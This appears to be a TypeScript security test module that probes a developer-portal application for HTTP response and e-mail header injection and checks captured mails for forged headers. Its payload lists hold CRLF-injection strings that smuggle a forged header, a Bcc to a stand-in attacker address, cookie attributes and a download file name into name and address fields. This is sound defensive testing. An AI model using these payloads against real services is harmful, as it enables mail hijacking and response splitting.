import type { ReceivedMail } from '../../support/smtp.ts';
import { type Attack, attack, told } from './attempt.ts';
import type { Target } from './target.ts';

const FORGED = 'X-Forged';

/** Ends of a line, and what some programs take for one. */
const BREAKS = ['\r\n', '\n', '\r', '%0d%0a', '\\r\\n', '\u2028', '\u0085', '\v', '\r\n ', '=0D=0A', '嘊嘍', '\u0000\r\n'];

const payloads = (): string[] => [
  ...BREAKS.map((text) => `Eve${text}${FORGED}: 1`),
  ...BREAKS.map((text) => `Eve${text}Bcc: spy@evil.example`),
  ...['\r\n', '\n', '\r'].map((text) => `Eve${text}${text}<b>another body</b>`),
  ...[
    '"Eve" <spy@evil.example>, x',
    'Eve>,<spy@evil.example',
    `=?utf-8?Q?Eve=0D=0A${FORGED}:_1?=`,
    'Eve"; filename="evil.html',
    'Eve; Path=/; Domain=localhost',
  ],
];

/** Addresses that hold more than one, or a header. */
const ADDRESSES = [
  'a@b.example,spy@evil.example',
  'a@b.example\r\nBcc: spy@evil.example',
  'a@b.example\nBcc:spy@evil.example',
  '"a\r\nBcc: spy@evil.example"@b.example',
  '<a@b.example> <spy@evil.example>',
  'a@b.example%0aBcc:spy@evil.example',
  '"a@evil.example"@b.example',
  'a@[127.0.0.1]',
  'a@b.example\u0000.evil.example',
  'spy@evil.example\u2028@b.example',
];

/** Names that reach mails, downloads, addresses and cookies, given wherever somebody gives one. */
const giveNames = async (target: Target, result: Attack): Promise<void> => {
  const { here, mallory, victim, master } = target;
  const manage = (method: string, path: string, json: unknown) => target.request(method, path, { token: master.token, json });
  const portal = `/v2/portals/${here['portal']}`;
  const product = `/v2/api-products/${here['product']}`;
  const version = `${product}/product-versions/${here['version']}`;
  for (const [n, text] of payloads().entries()) {
    const answers = [
      await target.request('POST', '/api/v2/developer', {
        host: victim.host,
        json: { email: `named-${n}@example.com`, full_name: text },
      }),
      await target.as(mallory, 'POST', '/api/v2/applications', { json: { name: text } }),
      await target.form(mallory, `/application/create?productVersion=${here['secondVersion']}`, {
        application: 'new',
        name: `${text} ${n}`,
      }),
      await target.form(mallory, '/account/profile', { fullName: text }),
      await target.as(mallory, 'POST', `/api/v2/applications/${mallory.own['application']}/credentials`, {
        json: { display_name: text },
      }),
      await manage('PATCH', portal, { display_name: text }),
      await manage('PATCH', product, { name: text }),
      await manage('PATCH', version, { name: text, notify: true }),
      await manage('PATCH', `${version}/specifications/${here['specificationId']}`, { name: `${text}.yaml` }),
      await manage('PUT', `/portico/v1/registrations/${victim.own['registration']}/decision`, {
        status: n % 2 ? 'approved' : 'rejected',
        reason: text,
      }),
      await target.form(master, '/admin/us/organisation/people/new', { name: text, email: `invited-${n}@example.org` }),
      await target.as(mallory, 'GET', `/spec/${here['product']}/${here['version']}/download`),
      await target.as(master, 'GET', `/admin/us/products/${here['product']}/versions/${here['version']}/specification/file`),
      await target.as(mallory, 'GET', `/login?returnTo=${encodeURIComponent(`/x${text}`)}`),
      await target.as(mallory, 'GET', `/docs/${encodeURIComponent(text)}`),
      await target.as({ ...mallory, cookie: '' }, 'GET', `/my-apps?x=${encodeURIComponent(text)}`),
    ];
    for (const answer of answers) {
      const { headers } = answer;
      const isForged =
        Object.keys(headers).includes(FORGED.toLowerCase()) ||
        (/evil\.html"?$/.test(headers['content-disposition'] ?? '') && !/\\"/.test(headers['content-disposition'] ?? ''));
      result.try(`${JSON.stringify(text)}: ${told(answer)}`, isForged || answer.status >= 500);
    }
  }
  await manage('PATCH', portal, { display_name: 'Portal' });
  await manage('PATCH', product, { name: 'Timetables' });
  await manage('PATCH', version, { name: 'v1' });
};

const giveAddresses = async (target: Target, result: Attack): Promise<void> => {
  const { victim, master } = target;
  for (const email of ADDRESSES) {
    const answers = [
      await target.request('POST', '/api/v2/developer', { host: victim.host, json: { email, full_name: 'Eve' } }),
      await target.request('POST', '/api/v2/developer/forgot-password', { host: victim.host, json: { email } }),
      await target.form(master, '/admin/us/organisation/people/new', { name: 'Eve', email }),
    ];
    for (const answer of answers) result.try(`${JSON.stringify(email)}: ${told(answer)}`, answer.status >= 500);
  }
};

/** What of a mail was not meant by who wrote its template; undefined when all is as it must be. */
const oddity = ({ raw, to, from }: ReceivedMail): string | undefined => {
  const [head = ''] = raw.split(/\r\n\r\n/, 1);
  const names = head
    .split('\r\n')
    .filter((line) => !/^[ \t]/.test(line))
    .map((line) => /^([^:]*):/.exec(line)?.[1]?.toLowerCase() ?? line);
  const known = new Set([
    'from',
    'to',
    'subject',
    'message-id',
    'date',
    'mime-version',
    'content-type',
    'auto-submitted',
    'x-auto-response-suppress',
    'content-transfer-encoding',
  ]);
  const strange = names.filter((name) => !known.has(name));
  if (strange.length > 0) return `headers ${strange.join(', ')}`;
  if (/[\0\r](?!\n)|(?<!\r)\n/.test(head)) return 'a bare line break in the head';
  if (to.length !== 1 || to.some((address) => address.endsWith('@evil.example')) || from.endsWith('@evil.example'))
    return `an envelope to ${to.join(', ')}`;
  return undefined;
};

const QUIET_MS = 12_000;

/** Mails are sent in the background, those about decisions after ten seconds: waits until none has come for a while. */
const allMails = async ({ mails }: Target): Promise<readonly ReceivedMail[]> => {
  for (let before = -1; before < mails.received.length; ) {
    before = mails.received.length;
    await new Promise((resolve) => setTimeout(resolve, QUIET_MS));
  }
  return mails.received;
};

export const headerInjection = async (target: Target): Promise<Attack[]> => {
  const names = attack('line breaks in names and headers of answers');
  await giveNames(target, names);
  const addresses = attack('line breaks and lists in e-mail addresses');
  await giveAddresses(target, addresses);
  const received = attack('headers and envelopes of the mails that came of it');
  for (const mail of await allMails(target)) {
    const odd = oddity(mail);
    received.try(`${odd}: ${mail.raw.slice(0, 200)}`, odd !== undefined);
  }
  received.note = `${received.tried} mails read as bytes`;
  received.try('no mail came: nothing was tried', received.tried === 0);
  return [names, addresses, received];
};
